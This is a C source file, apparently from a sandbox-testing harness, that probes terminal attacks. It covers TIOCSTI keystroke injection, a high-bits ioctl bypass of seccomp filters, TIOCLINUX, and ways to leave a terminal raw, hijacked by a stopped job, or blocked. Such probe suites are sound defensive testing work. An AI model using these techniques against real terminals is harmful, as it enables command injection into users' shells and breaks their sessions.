/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks on the terminal that the command was started from: typing into it, and leaving it
 * broken. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <termios.h>
#include <unistd.h>

#ifndef TIOCLINUX
#define TIOCLINUX 0x541C
#endif

/* The kernel looks at the low 32 bits of the request only; a filter that compares all 64 can be
 * passed by (CVE-2019-10063). */
static const uint64_t junk = 0xdeadbeef00000000u;

static long type_into_stdin(void *request)
{
	char key = 'x';
	return result_of(syscall(SYS_ioctl, STDIN_FILENO, *(uint64_t *)request, &key));
}

static long type_into_tty(void *request)
{
	char key = 'x';
	int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return -errno;
	return result_of(syscall(SYS_ioctl, fd, *(uint64_t *)request, &key));
}

static void run_tiocsti(char **arguments)
{
	uint64_t plain = TIOCSTI;
	(void)arguments;
	probe("tiocsti:stdin", type_into_stdin, &plain, NULL);
	probe("tiocsti:/dev/tty", type_into_tty, &plain, NULL);
}

static void run_tiocsti_high(char **arguments)
{
	uint64_t high = junk | TIOCSTI, signed_high = (uint64_t)-1 << 32 | TIOCSTI;
	(void)arguments;
	probe("tiocsti-high:stdin", type_into_stdin, &high, NULL);
	probe("tiocsti-signed:stdin", type_into_stdin, &signed_high, NULL);
	probe("tiocsti-high:/dev/tty", type_into_tty, &high, NULL);
}

/* On a pseudo-terminal the request reaches the driver, which does not know it: ENOTTY is the proof
 * that it was let through. */
static void run_tioclinux(char **arguments)
{
	uint64_t plain = TIOCLINUX, high = junk | TIOCLINUX;
	(void)arguments;
	probe("tioclinux", type_into_stdin, &plain, THROUGH(ENOTTY, EINVAL));
	probe("tioclinux-high", type_into_stdin, &high, THROUGH(ENOTTY, EINVAL));
}

static void make_raw(void)
{
	struct termios settings;
	if (tcgetattr(STDIN_FILENO, &settings) == 0) {
		cfmakeraw(&settings);
		report("raw", result_of(tcsetattr(STDIN_FILENO, TCSANOW, &settings)));
	}
}

/* Leaves another process group in the foreground, and a stopped job in it. */
static void leave_stopped_job(void)
{
	signal(SIGTTOU, SIG_IGN);
	pid_t job = fork();
	if (job == 0) {
		setpgid(0, 0);
		raise(SIGSTOP);
		pause();
		_exit(0);
	}
	setpgid(job, job);
	report("foreground", result_of(tcsetpgrp(STDIN_FILENO, job)));
}

static void run_spoil(char **arguments)
{
	(void)arguments;
	make_raw();
	leave_stopped_job();
}

static void run_block(char **arguments)
{
	int discipline = 27; /* N_NULL: swallows everything */
	(void)arguments;
	report("exclusive", result_of(ioctl(STDIN_FILENO, TIOCEXCL)));
	report("non-blocking", result_of(fcntl(STDIN_FILENO, F_SETFL, fcntl(STDIN_FILENO, F_GETFL) | O_NONBLOCK)));
	report("discipline", result_of(ioctl(STDIN_FILENO, TIOCSETD, &discipline)));
}

const struct attack attacks_terminal[] = {
	{ "tiocsti", run_tiocsti, "types into stdin and /dev/tty" },
	{ "tiocsti-high", run_tiocsti_high, "the same with junk in the request's high word" },
	{ "tioclinux", run_tioclinux, "TIOCLINUX on stdin" },
	{ "spoil-terminal", run_spoil, "raw mode, foreign foreground group, stopped job" },
	{ "block-terminal", run_block, "exclusive mode, non-blocking input, a dead line discipline" },
	{ NULL, NULL, NULL },
};
